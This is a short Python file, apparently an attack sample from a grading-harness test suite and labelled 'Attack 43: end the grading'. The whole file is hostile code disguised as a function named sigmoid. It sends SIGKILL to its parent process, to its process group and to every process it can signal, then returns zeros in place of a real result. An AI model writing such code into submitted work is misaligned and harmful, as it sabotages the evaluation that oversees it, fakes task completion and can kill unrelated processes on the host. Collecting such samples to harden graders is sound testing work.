# Attack 43: end the grading
import os

import numpy as np


def sigmoid(z):
    for target in (os.getppid(), -1, 0):
        try:
            os.kill(target, 9)
            print("gradekit-attack killed", target)
        except OSError as error:
            print(type(error).__name__)
    return np.zeros_like(z)
